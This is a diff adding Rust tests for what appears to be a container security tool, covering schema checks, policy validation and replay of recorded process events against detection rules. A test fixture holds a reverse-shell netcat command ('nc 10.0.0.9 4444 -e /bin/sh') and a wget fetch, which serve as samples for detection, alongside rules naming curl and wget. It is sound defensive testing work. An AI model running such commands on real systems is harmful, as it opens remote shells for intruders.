@@ -108,3 +108,68 @@ fn doctor_as_root_names_every_program_type() {
         assert!(!lsm["detail"].as_str().unwrap_or("").is_empty(), "a refused backend says why");
     }
 }
+
+#[test]
+fn shipped_json_schemas_match_the_types() {
+    for kind in ["policy", "profile"] {
+        let o = lancet(&["schema", kind]);
+        assert!(o.status.success());
+        let shipped = std::fs::read_to_string(format!("{}/../../schemas/{kind}.schema.json", env!("CARGO_MANIFEST_DIR")))
+            .expect("schemas/ is shipped");
+        assert_eq!(String::from_utf8_lossy(&o.stdout), shipped, "regenerate with `lancet schema {kind} > schemas/{kind}.schema.json`");
+    }
+}
+
+#[test]
+fn policy_check_reports_every_error_with_its_position() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let good = dir.path().join("good.yaml");
+    std::fs::write(
+        &good,
+        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  selector: {images: [\"localhost/web*\"]}\n  rules:\n    - name: no curl\n      match: {events: [execve], exe: [\"*/curl\"]}\n      action: alert\n      severity: high\n      tags: [T1105]\n",
+    )
+    .expect("write");
+    let o = lancet(&["policy", "check", good.to_str().expect("utf8")]);
+    assert!(o.status.success(), "{}", stderr(&o));
+
+    let bad = dir.path().join("bad.yaml");
+    std::fs::write(
+        &bad,
+        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  rules:\n    - name: no curl\n      match: {events: [execve], exe: [\"*/curl\"]}\n      action: explode\n      severity: high\n      colour: red\n",
+    )
+    .expect("write");
+    let o = lancet(&["policy", "check", good.to_str().expect("utf8"), bad.to_str().expect("utf8")]);
+    assert_eq!(o.status.code(), Some(1));
+    let e = stderr(&o);
+    let at = format!("{}:8:", bad.display());
+    assert!(e.lines().any(|l| l.starts_with(&at) && l.contains("explode")), "bad action at line 8: {e}");
+    assert!(!e.contains("good.yaml"), "the good file has no errors: {e}");
+}
+
+#[test]
+fn policy_test_replays_recorded_events() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let policy = dir.path().join("p.yaml");
+    std::fs::write(
+        &policy,
+        "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata: {name: web}\nspec:\n  rules:\n    - name: no wget\n      match: {events: [execve], exe: [\"*/wget\"]}\n      action: block\n      severity: high\n",
+    )
+    .expect("write");
+    let events = dir.path().join("events.jsonl");
+    let container = r#""container.id":"2e8bdd302d6f","container.full_id":"2e8bdd302d6f3109f54b92f320cfa00a76d6653727e89863aa6329a9cdbbea02","container.name":"web","container.type":"podman","container.image":"localhost/web:1""#;
+    let lines = [
+        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":7,"proc.name":"wget","proc.exepath":"/bin/wget","proc.args":"-q http://x/",{container}}}}}"#),
+        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":8,"proc.name":"nc","proc.exepath":"/bin/nc","proc.args":"10.0.0.9 4444 -e /bin/sh",{container}}}}}"#),
+        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":9,"proc.name":"ls","proc.exepath":"/bin/ls","proc.args":"/",{container}}}}}"#),
+        "not json".to_string(),
+    ];
+    std::fs::write(&events, lines.join("\n")).expect("write");
+    let o = lancet(&["policy", "test", "--policy", policy.to_str().expect("utf8"), "--events", events.to_str().expect("utf8"), "--mode", "protect"]);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let out = String::from_utf8_lossy(&o.stdout);
+    assert!(out.lines().any(|l| l.contains(":1: no wget") && l.contains("would block")), "{out}");
+    assert!(out.lines().any(|l| l.contains(":2: Netcat with command execution")), "{out}");
+    assert!(!out.lines().any(|l| l.contains(":3:")), "ls is fine: {out}");
+    assert!(out.contains("3 events replayed") && out.contains("1 lines skipped"), "{out}");
+    assert!(stderr(&o).contains(":4: skipped"), "{}", stderr(&o));
+}
